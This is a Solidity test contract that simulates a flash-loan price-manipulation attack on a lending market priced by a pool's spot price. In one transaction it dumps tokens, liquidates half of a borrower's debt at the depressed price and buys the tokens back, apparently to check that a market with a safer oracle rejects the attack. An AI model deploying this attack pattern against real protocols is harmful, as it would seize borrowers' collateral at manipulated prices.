// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

import {ILendingMarket} from "../interfaces/ILendingMarket.sol";
import {IStableSwapPool} from "../interfaces/IStableSwapPool.sol";

/// @title ScenarioFlashAttacker
/// @notice TEST ONLY. The flash-trade attack on a loan priced by one pool's spot price (bZx 2020, Mango
/// 2022), in one transaction: (1) dump `dump` tokens into the pool, which pushes its spot price down;
/// (2) liquidate half of `borrower`'s debt in `market` at that price, receiving the collateral with the
/// liquidation incentive; (3) buy the tokens back with the ETH the dump paid, which restores the price.
/// The tokens and ETH it starts with stand for a flash loan: the test funds it and reads what is left.
/// Against a market whose oracle does not read the spot price within the transaction (the pool's EMA,
/// the exchange rate), step 2 reverts with `HealthyPosition` and the whole transaction with it.
contract ScenarioFlashAttacker {
    IStableSwapPool public immutable pool;
    IERC20 public immutable token;

    constructor(IStableSwapPool pool_) {
        pool = pool_;
        token = IERC20(pool_.coin1());
        token.approve(address(pool_), type(uint256).max);
    }

    /// @notice Receives the ETH of the dump, the liquidation's refund and the funding.
    receive() external payable {}

    /// @notice Dump, liquidate half the debt, buy back: one transaction.
    /// @param market A market whose collateral is the pool's token.
    /// @param borrower The position to liquidate.
    /// @param dump Tokens sold into the pool first (token units).
    function attack(ILendingMarket market, address borrower, uint256 dump) external payable {
        uint256 ethOut = pool.exchange(1, 0, dump, 0, address(this));
        uint256 shares = market.borrowShares(borrower) / 2;
        // Sends all its ETH; the market keeps the repaid assets and refunds the rest.
        market.liquidate{value: address(this).balance}(borrower, 0, shares);
        pool.exchange{value: ethOut}(0, 1, ethOut, 0, address(this));
    }
}
